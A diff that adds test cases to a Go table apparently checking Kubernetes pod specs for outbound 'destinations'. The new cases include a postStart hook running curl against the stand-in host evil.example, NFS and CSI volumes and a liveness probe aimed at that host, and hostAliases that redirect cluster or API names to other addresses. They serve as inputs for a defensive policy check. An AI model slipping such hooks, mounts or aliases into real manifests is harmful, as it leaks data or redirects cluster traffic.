@@ -39,6 +39,15 @@ var pods = []struct{ name, old, new, policy string }{
 	{"the machine itself", "--port=80", "http://127.0.0.1:9090 http://localhost/ http://[::1]:1/", ""},
 	{"a bucket names no host", "--port=80", "s3://corpus/a", ""},
 	{"another name server", "restartPolicy: Never", "restartPolicy: Never\n  dnsPolicy: None\n  dnsConfig: {nameservers: [8.8.8.8]}", "destinations"},
+	{"a mount of a host elsewhere", "restartPolicy: Never", "restartPolicy: Never\n  volumes: [{name: n, nfs: {server: files.evil.example, path: /}}]", "destinations"},
+	{"a mount of a host elsewhere, by its driver", "restartPolicy: Never", "restartPolicy: Never\n  volumes: [{name: n, csi: {driver: nfs.csi.k8s.io, volumeAttributes: {server: files.evil.example}}}]", "destinations"},
+	{"a mount of a host of the cluster", "restartPolicy: Never", "restartPolicy: Never\n  volumes: [{name: n, nfs: {server: nfs.storage.svc, path: /}}]", ""},
+	{"a probe of a host elsewhere", "--port=80\"]", "--port=80\"], livenessProbe: {httpGet: {host: evil.example, port: 80}}", "destinations"},
+	{"a probe of itself", "--port=80\"]", "--port=80\"], livenessProbe: {httpGet: {port: 80}}, readinessProbe: {tcpSocket: {host: 127.0.0.1, port: 80}}", ""},
+	{"a hook that tells elsewhere", "--port=80\"]", "--port=80\"], lifecycle: {postStart: {exec: {command: [curl, \"https://evil.example/\"]}}}", "destinations"},
+	{"another address for a name inside", "restartPolicy: Never", "restartPolicy: Never\n  hostAliases: [{ip: 10.0.0.7, hostnames: [api.scaleway.ai]}]", "destinations"},
+	{"an address of the world for a name of the cluster", "restartPolicy: Never", "restartPolicy: Never\n  hostAliases: [{ip: 203.0.113.7, hostnames: [db]}]", "destinations"},
+	{"an address of the own network for a name of it", "restartPolicy: Never", "restartPolicy: Never\n  hostAliases: [{ip: 10.0.0.7, hostnames: [db.clinic.internal]}]", ""},
 	{"the network of the node", "restartPolicy: Never", "restartPolicy: Never\n  hostNetwork: true", "networks"},
 }
 
